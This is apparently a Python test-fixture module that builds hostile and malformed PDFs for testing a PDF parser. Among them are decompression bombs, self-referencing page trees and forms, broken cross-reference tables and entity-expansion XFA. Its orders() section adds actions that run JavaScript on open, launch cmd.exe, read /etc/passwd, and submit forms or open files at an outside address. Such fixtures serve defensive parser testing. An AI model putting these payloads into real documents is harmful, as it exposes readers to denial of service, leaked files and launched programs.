"""PDFs that mean harm, written by hand: bombs, circles, lies about size, orders to run things."""

import io
import zlib
from collections.abc import Iterator, Mapping

import pikepdf
from pikepdf import Array, Dictionary
from tests.page import files

Case = tuple[str, bytes]
A_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << >> >>"
KEPT = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", 3: A_PAGE}
TILES = (
    b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.0001 /YStep 0.0001 "
    b"/Resources << >>"
)
MESH = (
    b"/ShadingType 4 /ColorSpace /DeviceRGB /BitsPerCoordinate 1 /BitsPerComponent 1 /BitsPerFlag 2 "
    b"/Decode [0 1 0 1 0 1 0 1 0 1]"
)
OWN_FONT = (
    b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /CharProcs << /H 6 0 R >> "
    b"/Encoding << /Differences [72 /H] >> /FirstChar 72 /LastChar 72 /Widths [9] "
    b"/Resources << /Font << /F 5 0 R >> >> >>"
)


def written(objects: Mapping[int, bytes], trailer: bytes = b"", before_end: bytes = b"") -> bytes:
    """A PDF of one page with these objects laid over the usual ones, each at its right place."""
    made, places = bytearray(b"%PDF-1.7\n"), {}
    for number, body in sorted({**KEPT, 4: stream(b""), **objects}.items()):
        places[number] = len(made)
        made += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    size = max(places) + 1
    rows = [
        f"{places[number]:010d} 00000 n \n" if number in places else "0000000000 00000 f \n"
        for number in range(1, size)
    ]
    start = len(made)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % size + "".join(rows).encode() + before_end
    made += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start)
    return bytes(made)


def stream(body: bytes, more: bytes = b"", length: bytes | None = None) -> bytes:
    """A stream object's body."""
    told = b"%d" % len(body) if length is None else length
    return b"<< /Length %s %s >>\nstream\n%s\nendstream" % (told, more, body)


def packed(body: bytes, more: bytes = b"") -> bytes:
    """A stream, deflated."""
    return stream(zlib.compress(body, 9), b"/Filter /FlateDecode " + more)


def drawing(order: bytes, resources: bytes = b"<< >>", **objects: bytes) -> bytes:
    """A page that draws `order`; `o5=…` adds object 5."""
    page = A_PAGE.replace(b"/Resources << >>", b"/Resources " + resources)
    return written({3: page, 4: packed(order), **{int(name[1:]): body for name, body in objects.items()}})


def catalog(more: bytes, **objects: bytes) -> bytes:
    """A page in a document whose catalogue says `more`."""
    return written(
        {1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % more, **{int(n[1:]): body for n, body in objects.items()}}
    )


def all_pdfs() -> Iterator[Case]:
    """Every one, with its name."""
    yield from bombs()
    yield from pictures()
    yield from geometry()
    yield from trees()
    yield from tables()
    yield from depth()
    yield from orders()
    yield from locked()
    yield from fonts_and_colours()


def bombs() -> Iterator[Case]:
    """Small files that would unfold to gigabytes, or draw for ever."""
    yield "content of 1 GB", files.pdf(files.with_content_bomb, compress_streams=False)
    zeros = zlib.compress(zlib.compress(bytes(200_000_000), 9), 9)
    yield "content packed twice", written({4: stream(zeros, b"/Filter [/FlateDecode /FlateDecode]")})
    yield "run lengths without end", written({4: stream(b"\x81 " * 2_000_000, b"/Filter /RunLengthDecode")})
    yield "ten filters", written({4: stream(zeros, b"/Filter [" + b"/FlateDecode " * 10 + b"]")})
    forms = {
        f"o{number}": stream(
            b"/F Do " * 10,
            b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F %d 0 R >> >>" % (number + 1),
        )
        for number in range(5, 15)
    }
    last = {"o15": stream(b"0 0 9 9 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9]")}
    yield "forms within forms, ten to the tenth", drawing(b"/F Do", b"<< /XObject << /F 5 0 R >> >>", **forms, **last)
    itself = stream(b"/F Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 5 0 R >> >>")
    yield "a form that draws itself", drawing(b"/F Do", b"<< /XObject << /F 5 0 R >> >>", o5=itself)
    yield "a million saves", drawing(b"q " * 1_000_000)
    yield "a million restores", drawing(b"Q " * 1_000_000)
    yield "a million lines", drawing(b"0 0 m " + b"9 9 l 0 0 l " * 500_000 + b"S")
    yield "dashes of nothing", drawing(b"[0.00001] 0 d 0 0 m 600 700 l S")
    yield "a million letters", drawing(b"BT /F 9 Tf " + b"(aaaaaaaaaa) Tj " * 100_000 + b"ET")
    yield "numbers of a thousand digits", drawing(b"9" * 1_000 + b" 0 0 1 0 0 cm 0 0 9 9 re f")
    tile = stream(b"0 0 1 1 re f", TILES)
    yield (
        "tiles without end",
        drawing(b"/Pattern cs /P scn 0 0 600 700 re f", b"<< /Pattern << /P 5 0 R >> >>", o5=tile),
    )
    mesh = stream(bytes(1_000_000), MESH)
    yield "a mesh of a million corners", drawing(b"/S sh", b"<< /Shading << /S 5 0 R >> >>", o5=mesh)
    attached = zlib.compress(bytes(100_000_000), 9)
    yield "an attached bomb", files.pdf(lambda pdf: pdf.attachments.__setitem__("a.zip", attached))
    yield "a megabyte of comments", drawing(b"%" + b"x" * 1_000_000 + b"\n0 0 9 9 re f")


def pictures() -> Iterator[Case]:
    """Pictures whose filter, size and bytes have nothing to do with each other."""
    yield "a picture of 40,000 x 40,000", files.pdf(files.with_picture_bomb)
    filters = ("Flate", "DCT", "JPX", "JBIG2", "CCITTFax", "LZW", "RunLength", "ASCII85", "ASCIIHex")
    for name in filters:
        for kind, body in (("noise", bytes(range(256)) * 8), ("nothing", b""), ("zeros", bytes(20_000))):
            yield f"a {name} picture of {kind}", _with_picture(600, 700, name, body)
    for width, height in ((0, 9), (-5, 9), (2**31 - 1, 1), (1, 39_000_000), (2**31, 2**31), (65_535, 600)):
        yield (
            f"a picture that says {width} x {height}",
            _with_picture(width, height, "Flate", zlib.compress(bytes(100))),
        )
    yield "a mask that is its own mask", _with_picture(9, 9, "Flate", zlib.compress(bytes(99)), b"/SMask 5 0 R")
    yield "a picture of 4,000,000,000 bits", _with_picture(9, 9, "Flate", b"", b"/BitsPerComponent 4000000000")


def _with_picture(width: int, height: int, name: str, body: bytes, more: bytes = b"") -> bytes:
    bits = b"" if b"/BitsPerComponent" in more else b"/BitsPerComponent 1"
    head = b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray %s %s /Filter /%sDecode"
    picture = stream(body, head % (width, height, bits, more, name.encode()))
    return drawing(b"q 612 0 0 792 0 0 cm /I Do Q", b"<< /XObject << /I 5 0 R >> >>", o5=picture)


def geometry() -> Iterator[Case]:
    """Pages of no size, or of every size."""
    boxes = {
        "144,000 points": b"[0 0 144000 144000]", "nothing": b"[0 0 0 0]", "turned round": b"[612 792 0 0]",
        "below nought": b"[-9e9 -9e9 9e9 9e9]", "numbers beyond numbers": b"[0 0 1e400 1e400]", "three numbers": b"[0 0 612]",
        "words": b"[/a /b /c /d]", "itself": b"3 0 R", "a hair": b"[0 0 0.0001 792]", "no box": b"null",
    }  # fmt: skip
    for name, box in boxes.items():
        yield f"a page of {name}", written({3: A_PAGE.replace(b"[0 0 612 792]", box)})
    for more in (b"/UserUnit 1000000", b"/Rotate 45", b"/Rotate 9999999999", b"/CropBox [9e5 9e5 9e6 9e6]"):
        yield f"a page with {more.decode()}", written({3: A_PAGE.replace(b"/Resources", more + b" /Resources")})


def trees() -> Iterator[Case]:
    """Pages without end, in circles, in depths."""
    yield "20,000 pages", _many(20_000)
    yield "a tree that holds itself", files.pdf(files.with_a_page_in_its_own_tree)
    yield "a count of two milliards", written({2: b"<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>"})
    yield "a count below nought", written({2: b"<< /Type /Pages /Kids [3 0 R] /Count -5 >>"})
    yield "no pages", written({2: b"<< /Type /Pages /Kids [] /Count 0 >>"})
    yield "pages that are not there", written({2: b"<< /Type /Pages /Kids [77 0 R null 78 0 R] /Count 3 >>"})
    yield "a page that is a number", written({3: b"42"})
    yield (
        "the same page a thousand times",
        written({2: b"<< /Type /Pages /Kids [" + b"3 0 R " * 1_000 + b"] /Count 1000 >>"}),
    )
    deep = {number: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (number + 1) for number in range(5, 5_000)}
    yield "a tree five thousand deep", written({2: b"<< /Type /Pages /Kids [5 0 R] /Count 1 >>", **deep, 5_000: A_PAGE})
    two = {
        2: b"<< /Type /Pages /Kids [5 0 R] /Count 1 >>",
        5: b"<< /Type /Pages /Kids [2 0 R] /Parent 2 0 R /Count 1 >>",
    }
    yield "two trees that hold each other", written(two)
    yield "a page that is its own parent", written({3: A_PAGE.replace(b"/Parent 2 0 R", b"/Parent 3 0 R")})


def _many(count: int) -> bytes:
    made = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page(page_size=(612, 792))
        first = document.pages[0].obj
        kids = [document.make_indirect(Dictionary(first)) for _ in range(count)]
        document.Root.Pages.Kids, document.Root.Pages.Count = Array(kids), count
        document.save(made, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return made.getvalue()


def tables() -> Iterator[Case]:
    """Tables of objects that point nowhere, everywhere, at themselves."""
    good = written({})
    start = good.rindex(b"startxref") + 10
    for name, place in (
        ("itself", b"%d" % start),
        ("nought", b"0"),
        ("beyond the end", b"99999999"),
        ("below nought", b"-1"),
        ("words", b"abc"),
    ):
        yield f"a table said to lie at {name}", good[:start] + place + b"\n%%EOF\n"
    yield "no table", good[: good.index(b"xref\n0")]
    yield "a table before itself", written({}, b"/Prev %d" % good.index(b"xref\n0"))
    yield "a table of milliards", good.replace(b"xref\n0 5", b"xref\n0 4294967295")
    yield "a trailer without a root", good.replace(b"/Root 1 0 R", b"")
    yield "a root that is a page", good.replace(b"/Root 1 0 R", b"/Root 3 0 R")
    yield "a root that is not there", good.replace(b"/Root 1 0 R", b"/Root 99 0 R")
    yield "an object that is itself", written({4: b"4 0 R"})
    yield "a length that is the stream", written({4: stream(b"q Q", length=b"4 0 R")})
    yield "a length of milliards", written({4: stream(b"q Q", length=b"4294967296")})
    yield "a length below nought", written({4: stream(b"q Q", length=b"-1")})
    within = stream(b"5 0 6 0 << /A 5 0 R >>", b"/Type /ObjStm /N 2147483647 /First 8 /Extends 5 0 R")
    yield "a stream of objects that holds itself", written({5: within})
    table = stream(bytes(10_000), b"/Type /XRef /Size 2147483647 /W [8 8 8] /Index [0 2147483647] /Root 1 0 R /Prev 9")
    yield "a packed table in a circle", b"%PDF-1.7\n1 0 obj\n" + table + b"\nendobj\nstartxref\n9\n%%EOF\n"
    widths = stream(bytes(100), b"/Type /XRef /Size 9 /W [-1 99999999999 0] /Root 1 0 R")
    yield "a packed table of endless width", b"%PDF-1.7\n1 0 obj\n" + widths + b"\nendobj\nstartxref\n9\n%%EOF\n"
    for share in range(1, 10):
        yield f"{share} tenths of a PDF", good[: len(good) * share // 10]


def depth() -> Iterator[Case]:
    """Brackets within brackets."""
    for name, opening, closing in (("arrays", b"[", b"]"), ("dictionaries", b"<< /A ", b">>"), ("strings", b"(", b")")):
        yield f"{name} a hundred thousand deep", written({5: opening * 100_000 + closing * 100_000})
        yield f"{name} that never close", written({5: opening * 100_000})
        yield f"{name} in the drawing", drawing(opening * 100_000 + closing * 100_000 + b" TJ")
    yield "a name of a megabyte", written({5: b"/" + b"A" * 1_000_000})
    yield "a hundred thousand objects", written(dict.fromkeys(range(5, 100000), b"null"))


def orders() -> Iterator[Case]:
    """Orders to run, send, open, show."""
    script = b"/S /JavaScript /JS (while(1){app.alert(1)})"
    yield "a script at opening", catalog(b"/OpenAction << %s >>" % script)
    yield "a script that orders itself next", catalog(b"/OpenAction 5 0 R", o5=b"<< %s /Next 5 0 R >>" % script)
    yield "scripts at every event", catalog(b"/AA << /WC << %s >> /WP << %s >> >>" % (script, script))
    yield "a program to be started", catalog(b"/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> >>")
    yield "an address to be called", catalog(b"/OpenAction << /S /URI /URI (file:///etc/passwd) >>")
    yield "a form to be sent", catalog(b"/OpenAction << /S /SubmitForm /F (http://192.0.2.1/) >>")
    yield (
        "a file elsewhere to be opened",
        catalog(b"/OpenAction << /S /GoToR /F (//192.0.2.1/share/a.pdf) /D [0 /Fit] >>"),
    )
    outside = stream(b"", b"/F (/etc/passwd) /FFilter /ASCIIHexDecode")
    yield "content in a file of the machine", written({4: outside})
    xfa = b'<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><xdp>&b;</xdp>'
    yield "a second form", catalog(b"/AcroForm << /Fields [] /XFA 5 0 R >>", o5=stream(xfa))
    yield (
        "fields in a circle",
        catalog(b"/AcroForm << /Fields [5 0 R] >>", o5=b"<< /T (a) /V (b) /Kids [5 0 R 5 0 R] >>"),
    )
    yield (
        "a field of a megabyte",
        catalog(b"/AcroForm << /Fields [5 0 R] >>", o5=b"<< /T (a) /V (" + b"x" * 1_000_000 + b") >>"),
    )
    yield "fields that are no array", catalog(b"/AcroForm << /Fields /All >>")
    yield (
        "names in a circle",
        catalog(b"/Names << /EmbeddedFiles 5 0 R /JavaScript 5 0 R >>", o5=b"<< /Kids [5 0 R] >>"),
    )
    yield "a script and a program attached", files.pdf(files.with_script_and_attachment)
    yield "outlines in a circle", catalog(b"/Outlines 5 0 R", o5=b"<< /First 5 0 R /Next 5 0 R /Title (a) >>")
    film = b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"
    yield "a film", written({3: A_PAGE.replace(b"/Resources", b"/Annots [5 0 R] /Resources"), 5: film})
    yield (
        "ten thousand notes",
        written({3: A_PAGE.replace(b"/Resources", b"/Annots [" + b"5 0 R " * 10_000 + b"] /Resources"), 5: film}),
    )


def locked() -> Iterator[Case]:
    """Encryption, real and broken."""
    for strength in (2, 3, 4, 6):
        for user in ("a", ""):
            lock = pikepdf.Encryption(user=user, owner="b", R=strength, metadata=strength > 3, aes=strength > 3)
            yield (
                f"locked, revision {strength}, {'for all' if user else 'for its owner'}",
                files.pdf(lambda pdf: None, encryption=lock),
            )
    for told in (
        b"<< /Filter /Standard /V 99 /R 99 >>",
        b"<< >>",
        b"3 0 R",
        b"<< /Filter /Standard /V 5 /R 6 /O () /U () /P 0 >>",
    ):
        yield f"a lock of {told[:40].decode()}", written({}, b"/Encrypt %s /ID [(a) (b)]" % told)


def fonts_and_colours() -> Iterator[Case]:
    """Fonts of noise, colours that are made of themselves."""
    noise = bytes(range(256)) * 20
    text = b"BT /F 20 Tf 10 10 Td (Hello) Tj ET"
    for kind, key in (("Type1", b"FontFile"), ("TrueType", b"FontFile2"), ("Type1", b"FontFile3 6 0 R /Z")):
        font = b"<< /Type /Font /Subtype /%s /BaseFont /A /FontDescriptor << /FontName /A /%s 6 0 R >> >>" % (
            kind.encode(),
            key,
        )
        body = stream(noise, b"/Subtype /Type1C")
        yield (
            f"a {kind} font of noise in {key[:9].decode()}",
            drawing(text, b"<< /Font << /F 5 0 R >> >>", o5=font, o6=body),
        )
    own = OWN_FONT
    yield "a font that writes itself", drawing(text, b"<< /Font << /F 5 0 R >> >>", o5=own, o6=stream(text))
    ranges = stream(
        b"1 begincodespacerange <00> <ff> endcodespacerange 1 beginbfrange <00000000> <ffffffff> <0000> endbfrange"
    )
    mapped = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>"
    yield "a table of four milliard letters", drawing(text, b"<< /Font << /F 5 0 R >> >>", o5=mapped, o6=ranges)
    spaces = {
        "itself": b"5 0 R", "a list of milliards": b"[/Indexed /DeviceRGB 2147483647 (abc)]", "noise": b"[/ICCBased 6 0 R]",
        "an alternative of itself": b"[/Separation /A 5 0 R << /FunctionType 2 /N 1 /Domain [0 1] >>]",
        "a thousand inks": b"[/DeviceN [" + b"/A " * 1_000 + b"] /DeviceRGB << /FunctionType 2 /N 1 /Domain [0 1] >>]",
    }  # fmt: skip
    for name, space in spaces.items():
        page = drawing(
            b"/C cs 1 scn 0 0 99 99 re f", b"<< /ColorSpace << /C 5 0 R >> >>", o5=space, o6=stream(noise, b"/N 3")
        )
        yield f"a colour of {name}", page
    sampled = stream(
        b"abc", b"/FunctionType 0 /Domain [0 1 0 1 0 1] /Range [0 1] /Size [65535 65535 65535] /BitsPerSample 32"
    )
    shade = b"<< /ShadingType 1 /ColorSpace /DeviceGray /Function 6 0 R >>"
    yield (
        "a function of milliards of samples",
        drawing(b"/S sh", b"<< /Shading << /S 5 0 R >> >>", o5=shade, o6=sampled),
    )
    worked = stream(b"{" * 10_000 + b"}" * 10_000, b"/FunctionType 4 /Domain [0 1 0 1] /Range [0 1]")
    yield (
        "a function ten thousand brackets deep",
        drawing(b"/S sh", b"<< /Shading << /S 5 0 R >> >>", o5=shade, o6=worked),
    )
